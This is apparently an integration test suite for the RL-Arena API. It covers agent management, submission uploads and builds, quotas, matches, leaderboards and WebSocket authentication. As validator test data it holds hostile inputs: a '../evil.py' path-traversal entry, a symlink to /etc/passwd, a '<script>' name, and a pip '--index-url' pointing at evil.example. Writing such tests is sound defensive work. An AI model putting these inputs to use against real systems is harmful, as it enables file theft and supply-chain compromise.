/**
 * Every RL-Arena route's documented answers and errors (401/403/404/409/400/429), the ZIP checks
 * through HTTP, versions, the daily submission quota, rebuild only from failed, match quota and
 * cooldown in /agents/:id/stats. Builds run (real virtualenvs); matches are requested, not played.
 */
import { describeSandboxEngine, detectSandboxEngine } from '../../src/infrastructure/sandbox/sandbox-engine';
import { describeWithEngine } from '../support/engines';
import { http } from '../support/test-system';
import { connectWebSocket } from '../support/ws-client';
import { buildZip } from '../unit/arena/zip-fixtures';
import { agentZip, createAgent, exampleAgentZip, registerUser, startArenaSystem, upload, waitFor, type ArenaTestSystem } from './arena-support';

const engine = detectSandboxEngine();
const describeArena = describeWithEngine('sandbox', engine.kind === 'bubblewrap', `bubblewrap not available: ${describeSandboxEngine(engine)}`);

let system: ArenaTestSystem;
const get = (path: string, token?: string) => http(system.url, 'GET', `/api/v1${path}`, { token });
const post = (path: string, body: unknown, token?: string) => http(system.url, 'POST', `/api/v1${path}`, { body, token });
const put = (path: string, body: unknown, token?: string) => http(system.url, 'PUT', `/api/v1${path}`, { body, token });
const del = (path: string, token?: string) => http(system.url, 'DELETE', `/api/v1${path}`, { token });
const missingId = '00000000-0000-4000-8000-000000000000';

/** A user with an agent whose submission built; returns ids. */
async function builtAgent(name: string) {
  const user = await registerUser(system.url);
  const agentId = await createAgent(system.url, user.token, name);
  const res = await upload(system.url, user.token, { agentId, zip: exampleAgentZip('tracking_agent') });
  expect(res.status).toBe(201);
  await waitFor(system.url, `/api/v1/agents/${agentId}`, (b) => b.active_submission_id === res.body.id);
  return { user, agentId, submissionId: String(res.body.id) };
}

describeArena('RL-Arena API contract', () => {
  beforeAll(async () => {
    system = await startArenaSystem({
      workers: ['builds'],
      env: {
        ARENA_SUBMISSIONS_PER_DAY: '3',
        RATE_LIMIT_SUBMISSIONS_PER_MIN: '8',
        RATE_LIMIT_MATCHES_PER_MIN: '8',
        ARENA_MATCH_COOLDOWN_SEC: '3600',
        ARENA_MATCHES_PER_AGENT_PER_DAY: '1',
      },
    });
  }, 60_000);
  afterAll(async () => {
    await system?.stop();
  });

  describe('agents', () => {
    it('creates with rating 1200 (201), refuses anonymous (401), bad input (400) and a duplicate name per user (409)', async () => {
      const owner = await registerUser(system.url);
      const created = await post('/agents', { name: 'SmartPongAgent', environment_id: 'pong', description: 'An RL agent' }, owner.token);
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({ user_id: owner.id, name: 'SmartPongAgent', environment_id: 'pong', elo_rating: 1200, total_matches: 0 });
      expect(Object.keys(created.body)).toEqual(expect.arrayContaining(['id', 'user_id', 'name', 'environment_id', 'elo_rating', 'total_matches', 'created_at']));

      expect((await post('/agents', { name: 'X', environment_id: 'pong' })).status).toBe(401);
      const unknownEnv = await post('/agents', { name: 'Chess', environment_id: 'chess' }, owner.token);
      expect(unknownEnv.status).toBe(400);
      expect(unknownEnv.body.error).toContain('known environments: pong');
      const badName = await post('/agents', { name: '<script>', environment_id: 'pong' }, owner.token);
      expect(badName.status).toBe(400);
      expect(JSON.stringify(badName.body.details)).toContain('name');

      const duplicate = await post('/agents', { name: 'smartpongagent', environment_id: 'pong' }, owner.token);
      expect(duplicate.status).toBe(409);
      expect(duplicate.body).toMatchObject({ code: 'CONFLICT', error: 'Agent name already exists for this user' });
      // Another user may use the same name.
      const other = await registerUser(system.url);
      expect((await post('/agents', { name: 'SmartPongAgent', environment_id: 'pong' }, other.token)).status).toBe(201);
    });

    it('lets exactly one of concurrent creations of one name win', async () => {
      const owner = await registerUser(system.url);
      const results = await Promise.all(Array.from({ length: 6 }, () => post('/agents', { name: 'Racer', environment_id: 'pong' }, owner.token)));
      expect(results.map((r) => r.status).sort()).toEqual([201, 409, 409, 409, 409, 409]);
    });

    it('gets (404 unknown, 400 malformed id), updates (owner only: 401/403/404/409) and deletes (204, then 404; the name is free again)', async () => {
      const owner = await registerUser(system.url);
      const intruder = await registerUser(system.url);
      const agentId = await createAgent(system.url, owner.token, 'Alpha');
      await createAgent(system.url, owner.token, 'Beta');

      const agent = await get(`/agents/${agentId}`);
      expect(agent.body).toMatchObject({ id: agentId, user_id: owner.id, username: owner.username, name: 'Alpha', elo_rating: 1200, draws: 0, active_submission_id: null });
      expect((await get(`/agents/${missingId}`)).status).toBe(404);
      // Ids in the documents' style name nothing here: unknown (404), not malformed (400).
      expect((await get('/agents/not-a-uuid')).status).toBe(404);
      expect((await get('/matches/match-abc123-def456')).body).toMatchObject({ code: 'NOT_FOUND', status_code: 404 });

      expect((await put(`/agents/${agentId}`, { name: 'Gamma' })).status).toBe(401);
      expect((await put(`/agents/${agentId}`, { name: 'Gamma' }, intruder.token)).status).toBe(403);
      expect((await put(`/agents/${missingId}`, { name: 'Gamma' }, owner.token)).status).toBe(404);
      expect((await put(`/agents/${agentId}`, { name: 'beta' }, owner.token)).status).toBe(409);
      expect((await put(`/agents/${agentId}`, {}, owner.token)).status).toBe(400);
      const updated = await put(`/agents/${agentId}`, { name: 'Gamma', description: 'New description' }, owner.token);
      expect(updated.status).toBe(200);
      expect(updated.body).toMatchObject({ id: agentId, name: 'Gamma', description: 'New description' });
      expect(Object.keys(updated.body).sort()).toEqual(['description', 'id', 'name', 'updated_at']);
      // The old name was released, the new one is taken.
      expect((await post('/agents', { name: 'Alpha', environment_id: 'pong' }, owner.token)).status).toBe(201);
      expect((await post('/agents', { name: 'GAMMA', environment_id: 'pong' }, owner.token)).status).toBe(409);

      expect((await del(`/agents/${agentId}`)).status).toBe(401);
      expect((await del(`/agents/${agentId}`, intruder.token)).status).toBe(403);
      expect((await del(`/agents/${missingId}`, owner.token)).status).toBe(404);
      const deleted = await del(`/agents/${agentId}`, owner.token);
      expect(deleted.status).toBe(204);
      expect((await get(`/agents/${agentId}`)).status).toBe(404);
      expect((await del(`/agents/${agentId}`, owner.token)).status).toBe(404);
      expect((await post('/agents', { name: 'Gamma', environment_id: 'pong' }, owner.token)).status).toBe(201);
    });

    it('lists with the environment filter and pagination (defaults limit 50, offset 0)', async () => {
      const owner = await registerUser(system.url);
      for (const name of ['P1', 'P2', 'P3']) await createAgent(system.url, owner.token, name);
      const all = await get('/agents');
      expect(all.body).toMatchObject({ limit: 50, offset: 0 });
      expect(Number(all.body.total)).toBeGreaterThanOrEqual(3);
      const page = await get('/agents?environment=pong&limit=2&offset=1');
      expect(page.body).toMatchObject({ limit: 2, offset: 1, total: all.body.total });
      expect(page.body.agents as unknown[]).toHaveLength(2);
      expect((page.body.agents as Record<string, unknown>[])[0]).toEqual((all.body.agents as Record<string, unknown>[])[1]);
      expect((await get('/agents?environment=chess')).body).toMatchObject({ agents: [], total: 0 });
      expect((await get('/agents?limit=0')).status).toBe(400);
    });
  });

  describe('submissions and builds', () => {
    it('refuses anonymous (401), non-multipart or incomplete bodies (400), unknown agents (404) and other owners (403)', async () => {
      const owner = await registerUser(system.url);
      const agentId = await createAgent(system.url, owner.token, 'Uploader');
      expect((await upload(system.url, undefined, { agentId, zip: exampleAgentZip('random_agent') })).status).toBe(401);
      const json = await post('/submissions', { agent_id: agentId }, owner.token);
      expect(json.status).toBe(400);
      expect(json.body.error).toContain('multipart/form-data');
      const noFile = await upload(system.url, owner.token, { agentId });
      expect(noFile.status).toBe(400);
      expect(noFile.body.details).toMatchObject({ fields: { code: expect.any(String) } });
      const noAgent = await upload(system.url, owner.token, { zip: exampleAgentZip('random_agent') });
      expect(noAgent.status).toBe(400);
      expect(noAgent.body.details).toMatchObject({ fields: { agent_id: 'Required' } });
      expect((await upload(system.url, owner.token, { agentId: missingId, zip: exampleAgentZip('random_agent') })).status).toBe(404);
      const intruder = await registerUser(system.url);
      expect((await upload(system.url, intruder.token, { agentId, zip: exampleAgentZip('random_agent') })).status).toBe(403);
    });

    it('answers 400 naming the problem for bad archives, and stores nothing for them', async () => {
      const owner = await registerUser(system.url);
      const agentId = await createAgent(system.url, owner.token, 'Zipper');
      const cases: [Buffer, string, RegExp][] = [
        [Buffer.from('this is not a zip'), 'not_a_zip', /Invalid ZIP archive/],
        [buildZip([{ name: 'agent.py', content: 'class Agent: pass\n' }]), 'missing_required_file', /missing requirements\.txt/],
        [buildZip([{ name: 'agent.py', content: 'x' }, { name: 'requirements.txt', content: '' }, { name: '../evil.py', content: 'x' }]), 'path_traversal', /"\.\.\/evil\.py" contains a "\.\." path segment/],
        [buildZip([{ name: 'agent.py', content: 'x' }, { name: 'requirements.txt', content: '' }, { name: 'link', content: '/etc/passwd', unixMode: 0o120777 }]), 'symlink', /symbolic link/],
      ];
      for (const [zip, problem, message] of cases) {
        const res = await upload(system.url, owner.token, { agentId, zip });
        expect({ status: res.status, problem: (res.body.details as Record<string, unknown>).problem }).toEqual({ status: 400, problem });
        expect(String(res.body.error)).toMatch(message);
      }
      // Past 10 MiB the upload is cut off while streaming, not buffered whole.
      const huge = await upload(system.url, owner.token, { agentId, zip: Buffer.alloc(10 * 1024 * 1024 + 1) });
      expect(huge.status).toBe(400);
      expect(huge.body).toMatchObject({ code: 'VALIDATION_ERROR', details: { problem: 'archive_too_large' } });
      expect(String(huge.body.error)).toContain('larger than the limit of 10485760 bytes');
      expect((await get(`/submissions/agent/${agentId}`)).body).toMatchObject({ submissions: [], total: 0 });
    });

    it('numbers versions 1.0.N per agent (also under concurrency) and enforces the daily quota (429)', async () => {
      const owner = await registerUser(system.url);
      const agentId = await createAgent(system.url, owner.token, 'Versioned');
      const first = await upload(system.url, owner.token, { agentId, zip: exampleAgentZip('random_agent') });
      expect(first.body.version).toBe('1.0.1');
      const [second, third] = await Promise.all([
        upload(system.url, owner.token, { agentId, zip: exampleAgentZip('tracking_agent') }),
        upload(system.url, owner.token, { agentId, zip: exampleAgentZip('random_agent', '') }),
      ]);
      expect([second.status, third.status]).toEqual([201, 201]);
      expect([second.body.version, third.body.version].sort()).toEqual(['1.0.2', '1.0.3']);
      const overQuota = await upload(system.url, owner.token, { agentId, zip: exampleAgentZip('random_agent') });
      expect(overQuota.status).toBe(429);
      expect(overQuota.body).toMatchObject({ code: 'RATE_LIMIT_EXCEEDED', details: { category: 'submissions_per_day', limit: 3 } });
      const list = await get(`/submissions/agent/${agentId}?limit=2`);
      expect(list.body.total).toBe(3);
      expect((list.body.submissions as { version: string }[]).map((s) => s.version)).toEqual(['1.0.3', '1.0.2']);
    });

    it('limits uploads per minute per user with the documented headers (429)', async () => {
      const owner = await registerUser(system.url);
      const statuses: number[] = [];
      let last: Headers | undefined;
      for (let i = 0; i < 9; i += 1) {
        const res = await upload(system.url, owner.token, { agentId: missingId, zip: exampleAgentZip('random_agent') });
        statuses.push(res.status);
        last = res.headers;
      }
      expect(statuses).toEqual([404, 404, 404, 404, 404, 404, 404, 404, 429]);
      expect(last?.get('x-ratelimit-limit')).toBe('8');
      expect(last?.get('retry-after')).not.toBeNull();
    });

    it('records a failed build with its reason; rebuild works only from failed (400), for the owner (401/403/404)', async () => {
      const owner = await registerUser(system.url);
      const agentId = await createAgent(system.url, owner.token, 'Broken');
      const broken = await upload(system.url, owner.token, { agentId, zip: agentZip('class NotAnAgent:\n    pass\n') });
      expect(broken.status).toBe(201);
      const submissionId = String(broken.body.id);
      expect((await post(`/submissions/${submissionId}/rebuild`, {}, owner.token)).status).toBe(400); // queued or building, not failed
      const failed = await waitFor(system.url, `/api/v1/submissions/${submissionId}`, (b) => b.status === 'failed');
      expect(failed.docker_image).toBeNull();
      const logs = await get(`/submissions/${submissionId}/build-logs`);
      expect(String(logs.body.logs)).toContain('agent.py defines no class named Agent');
      expect((await get(`/submissions/${submissionId}/build-status`)).body).toMatchObject({ status: 'failed', phase: 'Failed', docker_image: null });
      expect((await get(`/agents/${agentId}`)).body.active_submission_id).toBeNull();

      const badRequirements = await upload(system.url, owner.token, { agentId, zip: exampleAgentZip('random_agent', '--index-url https://evil.example/simple\nnumpy\n') });
      const refused = await waitFor(system.url, `/api/v1/submissions/${String(badRequirements.body.id)}`, (b) => b.status === 'failed');
      expect(refused.status).toBe('failed');
      expect(String((await get(`/submissions/${String(badRequirements.body.id)}/build-logs`)).body.logs)).toContain('pip options are not allowed');

      expect((await post(`/submissions/${submissionId}/rebuild`, {})).status).toBe(401);
      const intruder = await registerUser(system.url);
      expect((await post(`/submissions/${submissionId}/rebuild`, {}, intruder.token)).status).toBe(403);
      expect((await post(`/submissions/${missingId}/rebuild`, {}, owner.token)).status).toBe(404);
      const rebuild = await post(`/submissions/${submissionId}/rebuild`, {}, owner.token);
      expect(rebuild.status).toBe(200);
      expect(rebuild.body).toEqual({ id: submissionId, status: 'queued', message: 'Rebuild queued successfully' });
      const again = await waitFor(system.url, `/api/v1/submissions/${submissionId}`, (b) => b.status === 'failed');
      expect(again.status).toBe('failed');

      const good = await builtAgent('Healthy');
      const notFailed = await post(`/submissions/${good.submissionId}/rebuild`, {}, good.user.token);
      expect(notFailed.status).toBe(400);
      expect(notFailed.body.error).toContain('not in failed state');
      expect((await get(`/submissions/${missingId}`)).status).toBe(404);
      expect((await get(`/submissions/${missingId}/build-status`)).status).toBe(404);
      expect((await get(`/submissions/agent/${missingId}`)).status).toBe(404);
    });
  });

  describe('matches, quota and cooldown', () => {
    it('validates manual matches (401/400) and enforces the per-agent quota and cooldown (429), shown in /stats', async () => {
      const [a, b] = await Promise.all([builtAgent('Left'), builtAgent('Right')]);
      const token = a.user.token;
      const body = (agent1: string, agent2: string, environment = 'pong') => ({ agent_1_id: agent1, agent_2_id: agent2, environment_id: environment });
      expect((await post('/matches', body(a.agentId, b.agentId))).status).toBe(401);
      expect((await post('/matches', body(a.agentId, a.agentId), token)).status).toBe(400);
      expect((await post('/matches', body(a.agentId, missingId), token)).status).toBe(400);
      expect((await post('/matches', body(a.agentId, b.agentId, 'chess'), token)).status).toBe(400);
      const unbuilt = await createAgent(system.url, b.user.token, 'Unbuilt');
      const noSubmission = await post('/matches', body(a.agentId, unbuilt), token);
      expect(noSubmission.status).toBe(400);
      expect(noSubmission.body.error).toContain('no successfully built submission');

      const before = await get(`/agents/${a.agentId}/stats`);
      expect(before.body).toMatchObject({ matches_today: 0, can_match: true, next_match_available_at: null, win_rate: 0, opponent_stats: [] });

      const created = await post('/matches', body(a.agentId, b.agentId), token);
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({ environment_id: 'pong', submission_1_id: a.submissionId, submission_2_id: b.submissionId, status: 'queued' });
      const matchId = String(created.body.id);

      const stats = await get(`/agents/${a.agentId}/stats`);
      expect(stats.body).toMatchObject({ agent_id: a.agentId, matches_today: 1, can_match: false });
      const next = Date.parse(String(stats.body.next_match_available_at));
      const cooldownEnds = Date.parse(String(created.body.created_at)) + 3600_000;
      const tomorrow = Date.parse(new Date().toISOString().slice(0, 10)) + 86_400_000;
      expect(next).toBe(Math.max(cooldownEnds, tomorrow));
      const again = await post('/matches', body(a.agentId, b.agentId), token);
      expect(again.status).toBe(429);
      expect(again.body).toMatchObject({ code: 'RATE_LIMIT_EXCEEDED', details: { category: 'agent_match_quota' } });
      // Nobody spends another user's agent: B may not challenge with A's agent (issue 8, defect 9).
      const stolen = await post('/matches', body(a.agentId, b.agentId), b.user.token);
      expect(stolen.status).toBe(403);
      expect(stolen.body).toMatchObject({ code: 'FORBIDDEN', details: { fields: { agent_1_id: 'not your agent' } } });
      // The challenge A received used none of B's own quota: B's stats still show it free to play.
      expect((await get(`/agents/${b.agentId}/stats`)).body).toMatchObject({ matches_today: 0, can_match: true });

      // The match is queued (no match worker here): no replay yet.
      const match = await get(`/matches/${matchId}`);
      expect(match.body).toMatchObject({ id: matchId, status: 'queued', winner_id: null, replay_json_url: null, agent_1: { id: a.agentId, name: 'Left', username: a.user.username } });
      expect((await get(`/matches/${matchId}/replay?format=json`)).status).toBe(404);
      expect((await get(`/matches/${matchId}/replay`)).status).toBe(400);
      expect((await get(`/matches/${matchId}/replay-url`)).status).toBe(404);
      expect((await get(`/matches/${missingId}`)).status).toBe(404);

      const listed = await get(`/matches?agent_id=${a.agentId}&status=queued&environment=pong`);
      expect(listed.body).toMatchObject({ total: 1, matches: [{ id: matchId, agent_1_name: 'Left', agent_2_name: 'Right', winner_id: null, status: 'queued' }] });
      expect((await get(`/matches?agent_id=${a.agentId}&status=completed`)).body).toMatchObject({ total: 0 });
      expect((await get('/matches?status=exploded')).status).toBe(400);
      const mine = await get(`/matches/agent/${b.agentId}`);
      expect(mine.body).toMatchObject({ total: 1, matches: [{ id: matchId, opponent_id: a.agentId, opponent_name: 'Left', result: null, score: null, elo_change: null }] });
      expect((await get(`/matches/agent/${missingId}`)).status).toBe(404);
    });

    it('limits match creation per minute (429)', async () => {
      const user = await registerUser(system.url);
      const statuses: number[] = [];
      for (let i = 0; i < 9; i += 1) statuses.push((await post('/matches', { agent_1_id: missingId, agent_2_id: missingId, environment_id: 'pong' }, user.token)).status);
      expect(statuses).toEqual([400, 400, 400, 400, 400, 400, 400, 400, 429]);
    });
  });

  describe('leaderboard, WebSocket, OpenAPI', () => {
    it('answers leaderboards (defaults; 404 for an unknown environment)', async () => {
      const board = await get('/leaderboard');
      expect(board.status).toBe(200);
      expect(board.body).toMatchObject({ leaderboard: [], total: 0, updated_at: null });
      expect((await get('/leaderboard/environment/pong?limit=10')).body).toMatchObject({ total: 0 });
      expect((await get('/leaderboard/environment/chess')).status).toBe(404);
      expect((await get('/leaderboard?limit=501')).status).toBe(400);
    });

    it('authenticates /api/v1/ws by token and answers a ping', async () => {
      const refused = await connectWebSocket(`${system.url.replace('http', 'ws')}/api/v1/ws?token=nonsense`);
      expect(await refused.closed).toBe(4401);
      const user = await registerUser(system.url);
      const client = await connectWebSocket(`${system.url.replace('http', 'ws')}/api/v1/ws?token=${user.token}`);
      client.ws.send(JSON.stringify({ type: 'ping' }));
      expect((await client.next((m) => m.type === 'pong')).type).toBe('pong');
      client.ws.send(JSON.stringify({ type: 'dance' }));
      expect(await client.next((m) => m.type === 'error')).toMatchObject({ code: 'INVALID_MESSAGE' });
      client.ws.close();
    });

    it('documents every arena route in /api/v1/openapi.json', async () => {
      const doc = await get('/openapi.json');
      const paths = Object.keys(doc.body.paths as Record<string, unknown>);
      for (const path of [
        '/agents',
        '/agents/{id}',
        '/agents/{id}/stats',
        '/submissions',
        '/submissions/{id}',
        '/submissions/{id}/build-status',
        '/submissions/{id}/build-logs',
        '/submissions/{id}/rebuild',
        '/submissions/agent/{agentId}',
        '/matches',
        '/matches/{id}',
        '/matches/{id}/replay',
        '/matches/{id}/replay-url',
        '/matches/agent/{agentId}',
        '/leaderboard',
        '/leaderboard/environment/{envId}',
      ]) {
        expect(paths.map((p) => p.replace(/^\/api\/v1/, ''))).toContain(path);
      }
    });
  });
});
